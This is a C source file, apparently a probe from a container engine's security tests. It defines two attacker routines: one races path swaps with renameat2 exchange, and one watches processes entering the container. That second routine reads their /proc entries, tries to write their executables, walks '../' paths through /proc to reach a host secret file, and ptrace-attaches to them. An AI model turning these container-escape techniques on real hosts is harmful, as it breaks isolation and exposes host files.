// The two attackers: one that swaps paths under the engine's hands, and one
// that looks at what enters its container.
#include "probe.h"
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>

// race exchanges two names as fast as it can. It says "racing" once it works.
int race(const char *a, const char *b) {
	const unsigned exchange = 2; // RENAME_EXCHANGE
	for (long n = 0;; n++) {
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, exchange)) {
			// A name may be a mount point just now.
			if (errno != EBUSY) {
				perror("exchange");
				return 1;
			}
			n--;
		} else if (n == 100) {
			puts("racing");
			fflush(stdout);
		}
	}
}

// told remembers what was printed: one line for each thing seen.
static int told(const char *text) {
	static unsigned long seen[4096];
	unsigned long h = 5381;
	for (const char *p = text; *p; p++) h = h * 33 + (unsigned char)*p;
	h |= 1;
	for (unsigned long i = h; ; i++) {
		unsigned long *slot = &seen[i % 4096];
		if (*slot == h) return 1;
		if (*slot == 0) {
			*slot = h;
			return 0;
		}
	}
}

static void tell(const char *what, const char *detail) {
	char text[600];
	snprintf(text, sizeof text, "%s %s", what, detail);
	if (!told(text)) {
		puts(text);
		fflush(stdout);
	}
}

// secret is a file of the host that must not be reached.
static const char *secret;

static void look(const char *pid) {
	char path[300], target[256], what[64];
	ssize_t n;
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	n = readlink(path, target, sizeof target - 1);
	if (n < 0) return; // not yet, not any more, or not for us
	target[n] = 0;
	tell("exe", target);
	int fd = open(path, O_WRONLY);
	if (fd >= 0) {
		tell("WRITABLE", target);
		close(fd);
	}
	snprintf(path, sizeof path, "/proc/%s/cwd", pid);
	if ((n = readlink(path, target, sizeof target - 1)) > 0) target[n] = 0, tell("cwd", target);
	for (int i = 0; i < 2; i++) {
		snprintf(path, sizeof path, "/proc/%s/%s/../../../../../../../../%s", pid, i ? "cwd" : "root", secret);
		if ((fd = open(path, O_RDONLY)) >= 0) tell("REACHED", path), close(fd);
	}
	snprintf(path, sizeof path, "/proc/%s/fd", pid);
	DIR *dir = opendir(path);
	if (!dir) return;
	struct dirent *e;
	while ((e = readdir(dir))) {
		if (!isdigit(e->d_name[0])) continue;
		snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, e->d_name);
		if ((n = readlink(path, target, sizeof target - 1)) < 0) continue;
		target[n] = 0;
		// Numbers of pipes and sockets say nothing.
		char *bracket = strchr(target, '[');
		if (bracket && strchr(target, ':')) *bracket = 0;
		snprintf(what, sizeof what, "fd-%s", atoi(e->d_name) > 2 ? "above-2" : "stdio");
		tell(what, target);
		snprintf(path, sizeof path, "/proc/%s/fd/%s/../../../../../../../../%s", pid, e->d_name, secret);
		if ((fd = open(path, O_RDONLY)) >= 0) tell("REACHED", target), close(fd);
	}
	closedir(dir);
}

static void attach(int pid) {
	if (ptrace(PTRACE_SEIZE, pid, 0, 0)) return;
	char path[64], target[256];
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	ssize_t n = readlink(path, target, sizeof target - 1);
	target[n < 0 ? 0 : n] = 0;
	tell("traced", target);
	// A tracer detaches from what is stopped only.
	int status;
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid) ptrace(PTRACE_DETACH, pid, 0, 0);
}

// newest is the number of the newest process or thread of the container.
static int newest(void) {
	char text[128] = "";
	int fd = open("/proc/loadavg", O_RDONLY), last = 0;
	if (fd >= 0 && read(fd, text, sizeof text - 1) > 0) sscanf(text, "%*s %*s %*s %*s %d", &last);
	if (fd >= 0) close(fd);
	return last;
}

// spy looks at every new process of the container. Numbers around the newest
// are tried, since reading the folder takes longer than a start; what enters has
// threads, whose numbers come after its own.
int spy(const char *file) {
	int self = getpid();
	secret = file;
	puts("spying");
	fflush(stdout);
	for (;;) {
		int last = newest();
		for (int pid = last > 26 ? last - 24 : 2; pid < last + 8; pid++) {
			char text[24];
			struct stat st;
			snprintf(text, sizeof text, "/proc/%d", pid);
			if (pid == self || stat(text, &st)) continue;
			look(text + 6);
			attach(pid);
		}
	}
}
